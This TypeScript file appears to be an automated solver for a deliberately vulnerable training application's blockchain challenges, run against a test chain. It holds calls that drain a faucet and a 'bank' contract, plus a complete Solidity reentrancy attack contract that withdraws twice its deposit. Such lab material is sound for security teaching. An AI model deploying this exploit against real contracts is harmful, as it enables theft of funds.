import type { Attacker } from '../attacker/attacker.js'
import { type Act, ensure } from '../proof.js'

/** The addresses of the contracts on the test chain, as the pages name them (docs/contract/files-and-surfaces.md#contracts). */
export const contracts = {
  BeeToken: '0x36435796Ca9be2bf150CE0dECc2D8Fab5C4d6E13',
  BeeFaucet: '0x860e3616aD0E0dEDc23352891f3E10C4131EA5BC',
  HoneyPotNFT: '0x41427790c94E7a592B17ad694eD9c06A02bb9C39',
  ETHWalletBank: '0x413744D59d31AFDC2889aeE602636177805Bd7b0',
} as const

export interface Wallet {
  readonly address: string
  readonly key: string
}

export const onChain = async <Answer>(me: Attacker, call: string, body: object) =>
  (await me.post(`/outside/chain/${call}`, body)).json<Answer>()

export const openWallet = (me: Attacker) => onChain<Wallet>(me, 'wallet', {})

export const sendBy =
  (me: Attacker, { key }: Wallet) =>
  (to: string, method: string, values: readonly unknown[] = [], wei = '0') =>
    onChain<{ status: string }>(me, 'send', { key, to, method, values, wei })

const tenthOfEther = (10n ** 17n).toString()

export const savesEther: Act = async (me) => {
  const wallet = await openWallet(me)
  await me.post('/rest/web3/walletExploitAddress', { walletAddress: wallet.address })
  const send = sendBy(me, wallet)
  const { status: saved } = await send(contracts.ETHWalletBank, 'ethdeposit', [wallet.address], tenthOfEther)
  const { status: taken } = await send(contracts.ETHWalletBank, 'withdraw', [tenthOfEther])
  const { status: again } = await send(contracts.ETHWalletBank, 'withdraw', [tenthOfEther])
  ensure([saved, taken, again].join() === 'done,done,reverted', `The bank says ${saved}, ${taken}, ${again}`)
}

export const takesBees: Act = async (me) => {
  const send = sendBy(me, await openWallet(me))
  const { status } = await send(contracts.BeeFaucet, 'withdraw', [10])
  ensure(status === 'done', `The faucet says ${status}`)
}

/** Withdraws twice the amount that it has deposited, in the Solidity of the test chain. */
export const reentrantContract = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IBank {
    function ethdeposit(address to) external payable;
    function withdraw(uint256 amount) external;
}

/* Withdraws twice the amount that it has deposited. */
contract Attacker {
    IBank public immutable bank;
    address payable private owner;
    uint256 public rounds;

    event Drained(uint256 amount);

    modifier onlyOwner() {
        require(msg.sender == owner, "not yours");
        _;
    }

    constructor(address target) {
        bank = IBank(target);
        owner = payable(msg.sender);
    }

    function attack() external payable onlyOwner {
        require(msg.value >= 0.1 ether, "bring 0.1 ether");
        bank.ethdeposit{value: 0.1 ether}(address(this));
        bank.withdraw(0.1 ether);
        emit Drained(address(this).balance);
    }

    function collect() external onlyOwner {
        (bool sent, ) = owner.call{value: address(this).balance}("");
        require(sent, "stuck");
    }

    receive() external payable {
        if (rounds < 1) {
            rounds++;
            bank.withdraw(0.1 ether);
        }
    }
}
`
